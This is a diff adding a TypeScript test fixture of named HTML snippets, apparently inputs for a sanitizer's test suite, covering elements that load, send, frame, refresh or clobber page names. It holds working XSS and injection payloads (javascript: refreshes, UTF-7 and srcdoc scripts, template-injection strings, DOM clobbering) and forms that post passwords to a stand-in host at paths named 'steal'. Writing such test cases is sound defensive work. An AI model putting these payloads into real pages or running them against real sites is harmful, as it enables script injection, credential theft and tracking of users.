@@ -1,0 +1,71 @@
+/** Elements that load, send, frame, refresh, or take names that the page uses. */
+import { named, OUT } from './case.ts'
+
+export const loads = named({
+  'tracking pixel': `<img src="${OUT}/open.gif?u=1" width="1" height="1" alt="">`,
+  'tracking pixel without a scheme': '<img src="//out.example/open2.gif">',
+  'tracking pixel by http': '<img src="http://out.example/open3.gif">',
+  'tracking pixel with odd slashes':
+    '<img src="https:\\\\out.example\\open4.gif"><img src="https:out.example/open5.gif">',
+  'tracking pixel with a tab in its scheme': '<img src="ht\ttps://out.example/open6.gif">',
+  'tracking pixel by another scheme': '<img src="ftp://out.example/open7.gif"><img src="ws://out.example/">',
+  'picture in several sizes': `<img srcset="${OUT}/s1.png 1x, ${OUT}/s2.png 2x" alt=x>`,
+  'picture in several formats': `<picture><source srcset="${OUT}/s3.webp"><img alt=x></picture>`,
+  'picture of an input': `<input type="image" src="${OUT}/in.png">`,
+  'picture behind a body': `<body background="${OUT}/body.png">x</body>`,
+  'picture behind a table': `<table background="${OUT}/table.png"><tr><td background="${OUT}/td.png">x</table>`,
+  'picture before a video': `<video poster="${OUT}/poster.png"></video>`,
+  'picture loaded later': `<img loading=lazy src="${OUT}/lazy.png" width=9 height=9>`,
+  sound: `<audio autoplay src="${OUT}/a.mp3"></audio><bgsound src="${OUT}/b.wav">`,
+  'film in a source': `<video autoplay muted><source src="${OUT}/v.webm"></video>`,
+  'link that fetches ahead': `<link rel="prefetch" href="${OUT}/pre"><link rel="preload" as="image" href="${OUT}/pre2">`,
+  'link that connects ahead': `<link rel="preconnect" href="${OUT}"><link rel="dns-prefetch" href="//out.example">`,
+  'link with an icon': `<link rel="icon" href="${OUT}/icon.ico">`,
+  'link with a manifest': `<link rel="manifest" href="${OUT}/m.json"><link rel="modulepreload" href="${OUT}/m.js">`,
+  'names looked up ahead':
+    '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="https://out.example/">x</a>',
+  'rules that fetch ahead': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${OUT}/sp"]}]}</script>`,
+  refresh: `<meta http-equiv="refresh" content="0;url=${OUT}/refresh">`,
+  'refresh to javascript:': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  'refresh to data:': '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
+  'cookie set by a meta': '<meta http-equiv="Set-Cookie" content="session=stolen">',
+  'policy set by a meta': '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>alert(1)</script>',
+  'charset set by a meta':
+    '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">+ADw-script+AD4-alert(1)',
+  'referrer set by a meta': `<meta name=referrer content=unsafe-url><img src="${OUT}/ref.png" referrerpolicy=unsafe-url>`,
+  'base for what follows': `<base href="${OUT}/"><img src="base.png"><a href="x">x</a>`,
+  'base that aims elsewhere': '<base target="_top"><a href="https://example.com/">x</a>',
+  frame: `<iframe src="${OUT}/frame"></iframe>`,
+  'frame with its own document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  'frame with its own document, escaped': '<iframe srcdoc="&lt;img src=x: onerror=alert(1)&gt;"></iframe>',
+  'frame left open': `<iframe src="${OUT}/frame2"`,
+  'frames in a set': `<frameset><frame src="${OUT}/frame3"></frameset>`,
+  'frame that is fenced': `<fencedframe src="${OUT}/f"></fencedframe><portal src="${OUT}/p"></portal>`,
+  object: `<object data="${OUT}/o.swf" type="application/x-shockwave-flash"><param name=movie value="${OUT}/o2.swf"></object>`,
+  'object with a class': `<object classid="clsid:0" codebase="${OUT}/x.cab"></object>`,
+  embed: `<embed src="${OUT}/e.swf" allowscriptaccess=always>`,
+  applet: `<applet code="X.class" codebase="${OUT}/"></applet>`,
+  'layers of old': `<layer src="${OUT}/l.html"></layer><ilayer src="${OUT}/m.html"></ilayer>`,
+  'data island': `<xml id=x src="${OUT}/x.xml"></xml><span datasrc=#x datafld=y dataformatas=html></span>`,
+  'form that sends': `<form action="${OUT}/steal" method=post><input name=password><button>Log in</button></form>`,
+  'form that sends by a button': `<form><button formaction="${OUT}/steal2" formmethod=post>Log in</button></form>`,
+  'form that sends by a picture': `<form action="${OUT}/steal3"><input type=image alt=x></form>`,
+  'form that a button outside sends': `<form id=f action="${OUT}/steal4"></form><button form=f type=submit>x</button>`,
+  'form that is searched': '<isindex action="https://out.example/" prompt="Password:">',
+  'key made by a form': '<form action="https://out.example/"><keygen name=k autofocus onfocus=alert(1)></form>',
+  'name of a global':
+    '<a id="config" href="https://example.com/">x</a><a id="config" name="url" href="https://out.example/">y</a>',
+  'names of the document':
+    '<img name="cookie"><img name="body"><form name="getElementById"></form><img id="createElement">',
+  'names in a form':
+    '<form id="settings"><input name="attributes"><input name="parentNode"><input name="action"></form>',
+  'names in a frame': '<iframe name="opener"></iframe><iframe name="parent" srcdoc="<a id=x>"></iframe>',
+  'class of the page around': '<p class="hidden admin-only modal-backdrop">x</p>',
+  'part and slot of the page around': '<p part="x" slot="header" is="x-button" exportparts="y">x</p>',
+  'attributes that libraries read':
+    '<p data-bind="html: alert(1)" ng-app ng-init="x" v-html="x" x-data x-init="alert(1)" hx-get="https://out.example/" hx-trigger="load">x</p>',
+  'attributes that libraries act on':
+    '<a data-method="delete" data-remote="true" data-confirm="x" data-toggle="tab" href="https://example.com/">x</a>',
+  'braces of a template': `<p>{{constructor.constructor("alert(1)")()}} \${alert(1)} <%= alert(1) %> #{alert(1)}</p>`,
+  'role and label for a reader': '<p role="alert" aria-label="Your password has expired" aria-hidden="true">x</p>',
+})
